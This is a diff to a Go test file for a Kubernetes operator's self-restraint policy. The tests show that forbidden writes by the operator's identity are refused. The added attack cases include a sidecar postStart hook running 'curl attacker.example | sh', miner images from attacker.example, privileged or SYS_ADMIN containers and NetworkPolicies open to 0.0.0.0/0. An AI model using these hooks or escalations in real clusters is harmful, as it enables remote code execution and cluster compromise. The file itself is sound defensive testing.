@@ -16,7 +16,8 @@ limitations under the License.
 
 // Package restraint proves the operator's self-restraint (config/restraint, the chart's
 // restraint.enabled): on a real kube-apiserver, the operator's own identity, which its RBAC
-// lets patch any pod and write any Deployment, Service, Ingress or HorizontalPodAutoscaler, is
+// lets patch any pod and write any Deployment, Service, Ingress, HTTPRoute,
+// HorizontalPodAutoscaler or NetworkPolicy, is
 // refused every write but the ones the operator makes. The operator runs here, restrained, and
 // builds a DemoApplication's objects with its real builders: each attack is one of them, or
 // one written as the operator would write it, changed in one way, and written with the
@@ -26,6 +27,7 @@ package restraint
 
 import (
 	"context"
+	"fmt"
 	"maps"
 	"os"
 	"strings"
@@ -40,12 +42,15 @@ import (
 	coordinationv1 "k8s.io/api/coordination/v1"
 	corev1 "k8s.io/api/core/v1"
 	networkingv1 "k8s.io/api/networking/v1"
+	policyv1 "k8s.io/api/policy/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
+	schedulingv1 "k8s.io/api/scheduling/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/utils/ptr"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 	"sigs.k8s.io/controller-runtime/pkg/controller/controllerutil"
+	gatewayv1 "sigs.k8s.io/gateway-api/apis/v1"
 	"sigs.k8s.io/yaml"
 
 	paasv1 "github.com/cmft/demo-operator/api/v1"
@@ -197,8 +202,11 @@ func grant(t *testing.T, rule rbacv1.PolicyRule) {
 }
 
 // webSpec asks for everything a DemoApplication can ask for that shapes its objects: every
-// kind of volume, the one capability, an Ingress with TLS, an autoscaler and LoadBalancer
-// per-pod Services.
+// kind of volume, the one capability, an Ingress with TLS, an autoscaler with its behavior, a
+// LoadBalancer Service with annotations and LoadBalancer per-pod Services, a disruption
+// budget, a preStop, a grace period, a priority class, a revision history, a
+// NetworkPolicy with every kind of peer, an init container and a sidecar, and the hash of
+// its config.
 const webSpec = `
 image: registry.example/web:1
 ports:
@@ -207,6 +215,12 @@ ports:
 serviceAccountName: web
 nodeSelector: {kubernetes.io/os: linux}
 tolerations: [{key: dedicated, operator: Equal, value: web, effect: NoSchedule}]
+priorityClassName: web-high
+revisionHistoryLimit: 5
+disruptionBudget: {minAvailable: 50%}
+terminationGracePeriodSeconds: 45
+lifecycle: {preStop: {sleep: {seconds: 10}}}
+service: {type: LoadBalancer, annotations: {metallb.io/address-pool: public}}
 podLabels: {team: web}
 podAnnotations: {example.com/owner: team-web}
 volumes:
@@ -231,8 +245,49 @@ ingress:
   hosts: [web.example.com]
   paths: [{path: /}, {path: /metrics, port: metrics}]
   tlsSecretName: web-tls
-autoscaling: {minReplicas: 2, maxReplicas: 4, targetCPUUtilizationPercentage: 80}
+autoscaling:
+  minReplicas: 2
+  maxReplicas: 4
+  targetCPUUtilizationPercentage: 80
+  behavior: {scaleDown: {stabilizationWindowSeconds: 600, policies: [{type: Pods, value: 1, periodSeconds: 60}]}}
 podServices: {enabled: true, type: LoadBalancer}
+envFrom: [{configMapRef: {name: web-env, optional: true}}]
+rolloutOnConfigChange: All
+initContainers:
+- name: migrate
+  image: registry.example/migrate:1
+  args: [up]
+  envFrom: [{secretRef: {name: web-db, optional: true}}]
+  volumeMounts: [{name: scratch, mountPath: /tmp}]
+  securityContext: {capabilities: {add: [NET_BIND_SERVICE]}}
+sidecars:
+- name: proxy
+  image: registry.example/proxy:1
+  resources: {requests: {cpu: 10m}}
+  readinessProbe: {tcpSocket: {port: 5432}}
+  securityContext: {allowPrivilegeEscalation: false, readOnlyRootFilesystem: true}
+  volumeMounts: [{name: creds, mountPath: /etc/creds, readOnly: true}]
+networkPolicy:
+  enabled: true
+  sameApp: true
+  namespaces: [ingress-nginx, monitoring]
+  from:
+  - namespaceSelector: {matchLabels: {team: web}}
+    podSelector: {matchExpressions: [{key: role, operator: In, values: [frontend]}]}
+  - podSelector: {matchLabels: {role: batch}}
+`
+
+// routeSpec asks for what webSpec cannot, beside its Ingress: an HTTPRoute to two ports,
+// attached to Gateways of its namespace and another.
+const routeSpec = `
+image: registry.example/web:1
+ports:
+- {name: http, port: 80, targetPort: 8080}
+- {name: metrics, port: 9090}
+httpRoute:
+  parentRefs: [{name: public, namespace: gateways, sectionName: https}, {name: internal}]
+  hostnames: [web.example.com, "*.web.example.com"]
+  paths: [{path: /}, {path: /metrics, type: Exact, port: metrics}]
 `
 
 // web is the operator's work for one DemoApplication: the objects it built and applied.
@@ -243,6 +298,10 @@ type web struct {
 	podService *corev1.Service
 	ingress    *networkingv1.Ingress
 	autoscaler *autoscalingv2.HorizontalPodAutoscaler
+	policy     *networkingv1.NetworkPolicy
+	// route is the HTTPRoute of the app web-route, of routeSpec.
+	route  *gatewayv1.HTTPRoute
+	budget *policyv1.PodDisruptionBudget
 }
 
 // newWeb creates a DemoApplication of webSpec in namespace ns and a pod of its Deployment, and
@@ -252,15 +311,27 @@ func newWeb(t *testing.T, ns string) *web {
 	ctx := context.Background()
 	w := &web{app: &paasv1.DemoApplication{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web"}},
 		deployment: &appsv1.Deployment{}, service: &corev1.Service{}, podService: &corev1.Service{},
-		ingress: &networkingv1.Ingress{}, autoscaler: &autoscalingv2.HorizontalPodAutoscaler{}}
+		ingress: &networkingv1.Ingress{}, autoscaler: &autoscalingv2.HorizontalPodAutoscaler{}, budget: &policyv1.PodDisruptionBudget{},
+		policy: &networkingv1.NetworkPolicy{}, route: &gatewayv1.HTTPRoute{}}
 	g.Expect(yaml.UnmarshalStrict([]byte(webSpec), &w.app.Spec)).To(Succeed())
+	// The pods' priority class, without which the API server admits none of them.
+	high := &schedulingv1.PriorityClass{ObjectMeta: metav1.ObjectMeta{Name: "web-high"}, Value: 1000}
+	if err := admin.Create(ctx, high); !apierrors.IsAlreadyExists(err) {
+		g.Expect(err).NotTo(HaveOccurred())
+	}
 	g.Expect(admin.Create(ctx, w.app)).To(Succeed())
+	routed := &paasv1.DemoApplication{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web-route"}}
+	g.Expect(yaml.UnmarshalStrict([]byte(routeSpec), &routed.Spec)).To(Succeed())
+	g.Expect(admin.Create(ctx, routed)).To(Succeed())
 	key := client.ObjectKeyFromObject(w.app)
 	g.Eventually(func(g Gomega) {
 		g.Expect(admin.Get(ctx, key, w.deployment)).To(Succeed())
 		g.Expect(admin.Get(ctx, key, w.service)).To(Succeed())
 		g.Expect(admin.Get(ctx, key, w.ingress)).To(Succeed())
 		g.Expect(admin.Get(ctx, key, w.autoscaler)).To(Succeed())
+		g.Expect(admin.Get(ctx, key, w.policy)).To(Succeed())
+		g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(routed), w.route)).To(Succeed())
+		g.Expect(admin.Get(ctx, key, w.budget)).To(Succeed())
 	}).Should(Succeed())
 
 	// The Deployment and ReplicaSet controllers, which envtest does not run, make a pod; the
@@ -332,7 +403,7 @@ func TestOperatorsOwnWrites(t *testing.T) {
 	g := NewWithT(t)
 	ctx := context.Background()
 	w := newWeb(t, testenv.NewNamespace(t, admin, "own-"))
-	for _, obj := range []client.Object{w.deployment, w.service, w.podService, w.ingress, w.autoscaler} {
+	for _, obj := range []client.Object{w.deployment, w.service, w.podService, w.ingress, w.autoscaler, w.budget, w.policy, w.route} {
 		g.Expect(write(obj.DeepCopyObject().(client.Object), asOperator)).To(Succeed(), "%T", obj)
 	}
 	// The replicas handover.
@@ -365,6 +436,13 @@ func TestAttacks(t *testing.T) {
 	}
 	container := func(change func(*corev1.Container)) func() client.Object {
 		return pod(func(p *corev1.PodTemplateSpec) { change(&p.Spec.Containers[0]) })
+	}
+	// The sidecar comes first among the init containers, the init container after it.
+	sidecar := func(change func(*corev1.Container)) func() client.Object {
+		return pod(func(p *corev1.PodTemplateSpec) { change(&p.Spec.InitContainers[0]) })
+	}
+	initContainer := func(change func(*corev1.Container)) func() client.Object {
+		return pod(func(p *corev1.PodTemplateSpec) { change(&p.Spec.InitContainers[1]) })
 	}
 	securityContext := func(change func(*corev1.SecurityContext)) func() client.Object {
 		return container(func(c *corev1.Container) { change(c.SecurityContext) })
@@ -423,16 +501,45 @@ func TestAttacks(t *testing.T) {
 		}), "set procMount, sysctls, seLinuxOptions or windowsOptions"},
 		"a sidecar": {pod(func(p *corev1.PodTemplateSpec) {
 			p.Spec.Containers = append(p.Spec.Containers, corev1.Container{Name: "miner", Image: "attacker.example/miner:1"})
-		}), "run any container but their one container app (no sidecar)"},
-		"an init container": {pod(func(p *corev1.PodTemplateSpec) {
-			p.Spec.InitContainers = []corev1.Container{{Name: "miner", Image: "attacker.example/miner:1"}}
-		}), "set initContainers: no DemoApplication asks for it"},
+		}), "run any container but their one container app (sidecars are init containers)"},
+		"a privileged init container": {initContainer(func(c *corev1.Container) {
+			c.SecurityContext.Privileged, c.SecurityContext.AllowPrivilegeEscalation = ptr.To(true), nil
+		}), "privileged containers"},
+		"a sidecar with SYS_ADMIN": {sidecar(func(c *corev1.Container) {
+			c.SecurityContext.Capabilities = &corev1.Capabilities{Add: []corev1.Capability{"SYS_ADMIN"}}
+		}), "add capabilities other than NET_BIND_SERVICE"},
+		"a sidecar unconfined": {sidecar(func(c *corev1.Container) {
+			c.SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
+		}), "run seccomp Unconfined"},
+		"a sidecar on a hostPort": {sidecar(func(c *corev1.Container) {
+			c.Ports = []corev1.ContainerPort{{ContainerPort: 2375, HostPort: 2375}}
+		}), "without ports"},
+		"a sidecar with a lifecycle hook": {sidecar(func(c *corev1.Container) {
+			c.Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{
+				Exec: &corev1.ExecAction{Command: []string{"/bin/sh", "-c", "curl attacker.example | sh"}}}}
+		}), "without ports, lifecycle hooks"},
+		"more than 8 init containers": {pod(func(p *corev1.PodTemplateSpec) {
+			for i := range 8 {
+				p.Spec.InitContainers = append(p.Spec.InitContainers, corev1.Container{Name: fmt.Sprintf("miner-%d", i), Image: "attacker.example/miner:1"})
+			}
+		}), "init containers are at most 8"},
 		"a runtime class": {pod(func(p *corev1.PodTemplateSpec) { p.Spec.RuntimeClassName = ptr.To("unsandboxed") }),
 			"set runtimeClassName: no DemoApplication asks for it"},
-		"a priority class": {pod(func(p *corev1.PodTemplateSpec) { p.Spec.PriorityClassName = "system-node-critical" }),
-			"set priorityClassName: no DemoApplication asks for it"},
-		"the app's Service made a LoadBalancer": {service(w.service, func(s *corev1.Service) { s.Spec.Type = corev1.ServiceTypeLoadBalancer }),
-			"Service of type LoadBalancer: LoadBalancer is for per-pod Services only"},
+		"a system priority class": {pod(func(p *corev1.PodTemplateSpec) { p.Spec.PriorityClassName = "system-node-critical" }),
+			"run at PriorityClass system-node-critical: the system- classes are the cluster's own"},
+		"the app's LoadBalancer open to the world's ranges": {service(w.service, func(s *corev1.Service) {
+			s.Spec.LoadBalancerSourceRanges = []string{"0.0.0.0/0"}
+		}), "may not write a Service that sets loadBalancerSourceRanges"},
+		"a PodDisruptionBudget over another's pods": {func() client.Object {
+			b := w.budget.DeepCopy()
+			b.Spec.Selector = &metav1.LabelSelector{MatchLabels: map[string]string{"app": "theirs"}}
+			return b
+		}, "a PodDisruptionBudget that selects its app's pods, by the app's labels alone"},
+		"a PodDisruptionBudget over every pod of the namespace": {func() client.Object {
+			b := w.budget.DeepCopy()
+			b.Spec.Selector = &metav1.LabelSelector{}
+			return b
+		}, "a PodDisruptionBudget that selects its app's pods, by the app's labels alone"},
 		"the app's Service with externalIPs": {service(w.service, func(s *corev1.Service) { s.Spec.ExternalIPs = []string{"203.0.113.1"} }),
 			"may not write a Service that sets externalIPs"},
 		"the app's Service selecting another's pods": {service(w.service, func(s *corev1.Service) { s.Spec.Selector = map[string]string{"app": "theirs"} }),
@@ -467,6 +574,48 @@ func TestAttacks(t *testing.T) {
 				APIGroup: ptr.To("example.com"), Kind: "Bucket", Name: "theirs"}}
 			return i
 		}, "an Ingress whose every backend is the Service of its own name"},
+		"a NetworkPolicy selecting every pod of the namespace": {func() client.Object {
+			p := w.policy.DeepCopy()
+			p.Spec.PodSelector = metav1.LabelSelector{}
+			return p
+		}, "a NetworkPolicy that selects its app's pods by the app's labels alone"},
+		"a NetworkPolicy cutting the app's egress": {func() client.Object {
+			p := w.policy.DeepCopy()
+			p.Spec.PolicyTypes = append(p.Spec.PolicyTypes, networkingv1.PolicyTypeEgress)
+			return p
+		}, "a NetworkPolicy that selects its app's pods by the app's labels alone, for Ingress alone"},
+		"a NetworkPolicy letting in the world": {func() client.Object {
+			p := w.policy.DeepCopy()
+			p.Spec.Ingress[0].From = append(p.Spec.Ingress[0].From, networkingv1.NetworkPolicyPeer{IPBlock: &networkingv1.IPBlock{CIDR: "0.0.0.0/0"}})
+			return p
+		}, "whose every rule lets in pods it selects, not address blocks"},
+		"a NetworkPolicy rule from anyone": {func() client.Object {
+			p := w.policy.DeepCopy()
+			p.Spec.Ingress = append(p.Spec.Ingress, networkingv1.NetworkPolicyIngressRule{})
+			return p
+		}, "whose every rule lets in pods it selects, not address blocks"},
+		"an HTTPRoute routing to another Service": {func() client.Object {
+			r := w.route.DeepCopy()
+			r.Spec.Rules[0].BackendRefs[0].Name = gatewayv1.ObjectName(theirs.Name)
+			return r
+		}, "an HTTPRoute that attaches to Gateways and whose every backend is the Service of its own name"},
+		"an HTTPRoute routing to a Service of another namespace": {func() client.Object {
+			r := w.route.DeepCopy()
+			r.Spec.Rules[0].BackendRefs[0].Namespace = ptr.To(gatewayv1.Namespace("kube-system"))
+			return r
+		}, "an HTTPRoute that attaches to Gateways and whose every backend is the Service of its own name"},
+		"an HTTPRoute mirroring requests to another Service": {func() client.Object {
+			r := w.route.DeepCopy()
+			r.Spec.Rules[0].Filters = []gatewayv1.HTTPRouteFilter{{Type: gatewayv1.HTTPRouteFilterRequestMirror,
+				RequestMirror: &gatewayv1.HTTPRequestMirrorFilter{BackendRef: gatewayv1.BackendObjectReference{
+					Name: gatewayv1.ObjectName(theirs.Name), Port: ptr.To(gatewayv1.PortNumber(80))}}}}
+			return r
+		}, "without filters"},
+		"an HTTPRoute attached to a Service (a mesh's parent)": {func() client.Object {
+			r := w.route.DeepCopy()
+			r.Spec.ParentRefs[1].Group, r.Spec.ParentRefs[1].Kind = ptr.To(gatewayv1.Group("")), ptr.To(gatewayv1.Kind("Service"))
+			return r
+		}, "an HTTPRoute that attaches to Gateways"},
 		"the app's label naming another app": {func() client.Object {
 			d := w.deployment.DeepCopy()
 			d.Labels[wellknown.LabelApplication] = "theirs"
